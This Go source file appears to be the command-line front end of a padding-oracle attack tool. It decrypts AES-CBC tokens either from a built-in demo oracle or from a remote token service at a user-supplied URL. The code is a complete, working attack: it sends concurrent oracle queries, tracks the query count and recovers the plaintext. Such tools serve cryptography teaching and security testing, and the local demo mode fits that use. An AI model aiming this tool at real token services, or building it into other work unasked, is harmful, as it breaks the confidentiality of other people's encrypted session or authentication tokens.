// Command padding-oracle decrypts a CBC token through a padding oracle, either a
// local demo oracle or a remote token service.
package main

import (
	"context"
	"crypto/rand"
	"encoding/base64"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"time"

	paddingoracle "github.com/mario-areias/padding-oracle"
	aesgo "github.com/mario-areias/padding-oracle/aes-go"
	"github.com/mario-areias/padding-oracle/key"
	"github.com/mario-areias/padding-oracle/oracle"
	"github.com/mario-areias/padding-oracle/progress"
)

const salt = "padding-oracle demo"

func main() {
	mode := flag.String("mode", "local", "oracle to attack: local or http")
	targetURL := flag.String("u", "http://localhost:3000", "origin of the token service (http mode)")
	message := flag.String("m", "", "message to encrypt and crack (local mode, random if empty)")
	passphrase := flag.String("passphrase", "", "derive the local key from a passphrase (random key if empty)")
	delay := flag.Duration("delay", 500*time.Microsecond, "simulated oracle latency (local mode)")
	threads := flag.Int("t", 64, "maximum oracle queries in flight, 0 for unbounded")
	sequential := flag.Bool("sequential", false, "crack one block at a time")
	exhaustive := flag.Bool("exhaustive", false, "query every candidate and require exactly one to be valid")
	timeout := flag.Duration("timeout", 0, "give up after this long, 0 for no limit")
	quiet := flag.Bool("q", false, "don't render progress")
	verbose := flag.Bool("v", false, "log block timings")

	flag.Parse()

	logger := log.New(os.Stderr, "", log.LstdFlags)

	ctx := context.Background()
	if *timeout > 0 {
		var cancel context.CancelFunc
		ctx, cancel = context.WithTimeout(ctx, *timeout)
		defer cancel()
	}

	var (
		target         oracle.Oracle
		iv, ciphertext []byte
		err            error
	)
	switch *mode {
	case "local":
		target, iv, ciphertext, err = localTarget(*message, *passphrase, *delay)
	case "http":
		target, iv, ciphertext, err = remoteTarget(ctx, *targetURL)
	default:
		flag.Usage()
		os.Exit(2)
	}
	if err != nil {
		logger.Fatalf("preparing %s oracle: %v", *mode, err)
	}

	counting := &oracle.Counting{Oracle: oracle.Limit(target, *threads)}

	opts := []paddingoracle.Option{}
	if *verbose {
		opts = append(opts, paddingoracle.WithLogger(logger))
	}
	if *sequential {
		opts = append(opts, paddingoracle.WithSequentialBlocks())
	}
	if *exhaustive {
		opts = append(opts, paddingoracle.WithExhaustiveProbes(*threads))
	}

	if !*quiet {
		printer := progress.NewPrinter(os.Stderr, len(ciphertext)/paddingoracle.DefaultBlockLength)
		printer.Open()
		defer printer.Close()
		opts = append(opts, paddingoracle.WithProgress(printer))
	}

	cracker, err := paddingoracle.New(iv, ciphertext, counting, opts...)
	if err != nil {
		logger.Fatalf("%v", err)
	}

	start := time.Now()
	plaintext, err := cracker.CrackPlaintext(ctx)
	if err != nil {
		logger.Fatalf("cracking failed after %d queries: %v", counting.Queries(), err)
	}

	logger.Printf("cracked %d blocks with %d queries in %v", cracker.Blocks(), counting.Queries(), time.Since(start))
	fmt.Println(string(plaintext))
}

func localTarget(message, passphrase string, delay time.Duration) (oracle.Oracle, []byte, []byte, error) {
	k := key.Bit256()
	if passphrase != "" {
		var err error
		if k, err = key.FromPassphrase(passphrase, salt, 32); err != nil {
			return nil, nil, nil, err
		}
	}

	if message == "" {
		b := make([]byte, 32)
		if _, err := rand.Read(b); err != nil {
			return nil, nil, nil, err
		}
		message = base64.RawURLEncoding.EncodeToString(b)
	}

	local := oracle.NewLocal(k)
	local.Delay = delay

	iv, ciphertext, err := local.Encrypt([]byte(message))
	if err != nil {
		return nil, nil, nil, err
	}

	// sanity check: the oracle has to accept the untouched token
	if ok, err := local.Check(context.Background(), iv, ciphertext); err != nil || !ok {
		return nil, nil, nil, fmt.Errorf("oracle rejected its own token (%v)", err)
	}
	return local, iv, ciphertext, nil
}

func remoteTarget(ctx context.Context, origin string) (oracle.Oracle, []byte, []byte, error) {
	remote := oracle.NewHTTP(origin, &http.Client{
		Transport: &http.Transport{MaxIdleConnsPerHost: 64},
		Timeout:   10 * time.Second,
	})

	iv, ciphertext, err := remote.Token(ctx)
	if err != nil {
		return nil, nil, nil, err
	}

	// the full token must be accepted, otherwise the oracle signal is wrong
	last := len(ciphertext) - aesgo.BlockSize
	preceding := iv
	if last > 0 {
		preceding = ciphertext[last-aesgo.BlockSize : last]
	}
	if ok, err := remote.Check(ctx, preceding, ciphertext[last:]); err != nil || !ok {
		return nil, nil, nil, fmt.Errorf("service rejected its own token (%v)", err)
	}
	return remote, iv, ciphertext, nil
}
